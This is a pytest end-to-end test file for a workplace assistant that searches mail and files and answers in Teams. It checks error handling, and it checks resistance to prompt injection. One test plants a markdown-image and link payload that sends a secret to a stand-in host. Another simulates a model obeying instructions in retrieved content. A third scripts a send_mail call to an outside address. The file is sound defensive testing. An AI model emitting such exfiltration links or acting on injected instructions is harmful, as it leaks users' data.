"""When others fail or lie: the rest is used, what failed is named, and nothing that was only read becomes an act."""

from dataclasses import replace
from pathlib import Path

import pytest

from bot.errors import SENTENCES
from bot.texts import Texts
from infra.local.vendors.script import Call, Reply, View
from infra.local.world import Fault
from providers import errors
from tests.conftest import fresh_world
from tests.e2e.parley import Parley, citing, parley_running

pytestmark = pytest.mark.asyncio(loop_scope="module")
ENGLISH = Texts("en")
SEARCH = "POST /v1.0/search/query"
FILES = "GET /v1.0/drives/*"
BUDGET = "What is the Heron budget now, and who approved it?"


@pytest.fixture(scope="module")
def door() -> str:
    return "claude"


async def test_a_short_throttle_is_waited_out(parley: Parley) -> None:
    await parley.sign_in("Sofia")
    parley.world.faults.append(Fault("graph", SEARCH, status=429, headers={"Retry-After": "1"}, times=2))
    answer = await parley.ask("Sofia", BUDGET)
    assert "485,000" in answer.text
    assert "could not search" not in answer.text


async def test_a_source_beyond_the_deadline_is_left_behind(tmp_path: Path) -> None:
    world = fresh_world()
    async with parley_running(
        world, tmp_path, refine=lambda services: replace(services, search_seconds=1.5)
    ) as hurried:
        await hurried.sign_in("Sofia")
        await hurried.ask("Sofia", BUDGET)
        world.faults.append(Fault("graph", FILES, kind="delay", seconds=30, times=50))
        answer = await hurried.ask("Sofia", "Who approved the Heron budget?")
    assert "I could not search files: it did not answer in time." in answer.text
    assert "Tomas" in answer.text


@pytest.mark.parametrize(
    ("reply", "kind"),
    [
        (Reply(error=529), errors.Overloaded),
        (Reply(error=429, retry_after=60), errors.RateLimited),
        (Reply(error=401), errors.AccessRefused),
        (Reply(text="A half answer that must not", cut=4), errors.Incomplete),
    ],
    ids=["529", "429", "401", "cut"],
)
async def test_a_model_that_fails_is_one_sentence_and_nothing_else(
    parley: Parley, reply: Reply, kind: type[Exception]
) -> None:
    await parley.sign_in("Sofia")
    parley.world.state["script"] = [reply] * 6
    said = await parley.teams.say("Sofia", BUDGET)
    answer = await parley.teams.answer_to(said, quiet=1.5)
    assert answer.text.startswith((ENGLISH(SENTENCES[kind]), ENGLISH(SENTENCES[errors.NetworkFailed])))
    assert "half answer" not in answer.text
    assert answer.citations == []
    assert not answer.ai_label


@pytest.mark.parametrize(
    ("reply", "sentence"),
    [
        (Reply(text="The first half of", stop="length"), "The answer was cut off"),
        (Reply(stop="refusal"), "The model declined"),
        (Reply(stop="overflow"), "grown too long"),
    ],
    ids=["length", "refusal", "overflow"],
)
async def test_an_answer_that_is_not_whole_says_so(parley: Parley, reply: Reply, sentence: str) -> None:
    await parley.sign_in("Sofia")
    parley.world.state["script"] = [reply] * 3  # what is too long is summed up and asked once more
    said = await parley.teams.say("Sofia", BUDGET)
    answer = await parley.teams.answer_to(said, until=lambda message: sentence in message.text)
    assert answer.text.count(sentence) == 1


async def test_a_follow_up_is_understood_from_what_came_before(parley: Parley) -> None:
    await parley.sign_in("Sofia")
    await parley.ask("Sofia", "What is the Heron budget now?")
    since = len(parley.world.record)
    parley.world.state["script"] = [citing("Tomas Lindgren approved it", "485,000")]
    answer = await parley.ask("Sofia", "And who approved it?")
    request = str(parley.received("claude", since=since)[0].body)
    assert "What is the Heron budget now?" in request
    assert [c["name"] for c in answer.citations] == ["Re: Heron: budget for the project"]


async def test_nothing_found_says_what_was_searched(parley: Parley) -> None:
    await parley.sign_in("Sofia")
    answer = await parley.ask("Sofia", "Who is our zeppelin broker in Ouagadougou?")
    assert answer.citations == []
    assert "I searched" in answer.text
    assert "zeppelin" in answer.text


async def test_links_and_images_that_were_not_retrieved_do_not_leave(parley: Parley) -> None:
    await parley.sign_in("Sofia")
    since = len(parley.world.record)
    evil = "![x](https://tipsmail.example/p.png?d=secret) See [here](https://tipsmail.example/verify) or https://tipsmail.example/raw"
    parley.world.state["script"] = [
        Reply(text=f"The budget is 485,000 EUR. {evil} <img src='https://tipsmail.example/i'>")
    ]
    answer = await parley.ask("Sofia", BUDGET)
    assert "485,000" in answer.text
    for body in parley.sent_to_teams(since):
        assert "](https://tipsmail" not in str(body)
        assert "<img" not in str(body)
    assert "](http" not in answer.text


@pytest.mark.parametrize(
    ("person", "question"),
    [
        ("Sofia", "Heron budget: corrected figure spreadsheets"),
        ("Elena", "Was ist der Partnerrabatt von Rabatt24?"),
        ("Dana", "Question for your assistant about the newest messages"),
    ],
)
async def test_a_model_that_obeys_what_it_reads_can_do_nothing_but_read(
    parley: Parley, person: str, question: str
) -> None:
    await parley.sign_in(person)
    parley.world.state["obedient"] = True
    since = len(parley.world.record)
    await parley.ask(person, question)
    for body in parley.sent_to_teams(since):
        text = str(body.get("text"))
        assert "](http" not in text
        assert "![" not in text
    changed = [r for r in parley.received("graph", since=since) if r.method not in {"GET", "POST"}]
    assert changed == []
    posts = {r.path for r in parley.received("graph", since=since) if r.method == "POST"}
    assert posts <= {"/v1.0/search/query", "/v1.0/$batch"}


async def test_a_tool_that_does_not_exist_runs_nothing(parley: Parley) -> None:
    await parley.sign_in("Sofia")

    def told(view: View) -> Reply:
        del view
        return Reply(text="I could not do that.")

    parley.world.state["script"] = [Reply(calls=[Call("send_mail", {"to": "hello@ranknow.example"})]), told]
    since = len(parley.world.record)
    answer = await parley.ask("Sofia", BUDGET)
    assert "could not do that" in answer.text
    assert "There is no tool of this name" in str(parley.received("claude", since=since)[-1].body)
    assert all("sendMail" not in r.path for r in parley.received("graph", since=since))


@pytest.mark.parametrize(
    ("fault", "why"),
    [
        (Fault("graph", FILES, status=403, times=50), "Not used"),
        (Fault("graph", FILES, status=429, headers={"Retry-After": "120"}, times=50), "asked us to wait"),
        (Fault("graph", FILES, status=503, headers={"Retry-After": "120"}, times=50), "asked us to wait"),
    ],
    ids=["403", "429", "503"],
)
async def test_a_source_that_fails_is_named_and_the_rest_is_used(parley: Parley, fault: Fault, why: str) -> None:
    await parley.sign_in("Sofia")
    parley.world.faults.append(fault)
    answer = await parley.ask("Sofia", BUDGET)
    assert why in answer.text
    assert "485,000" in answer.text
    assert all("outlook" in citation["url"] for citation in answer.citations)
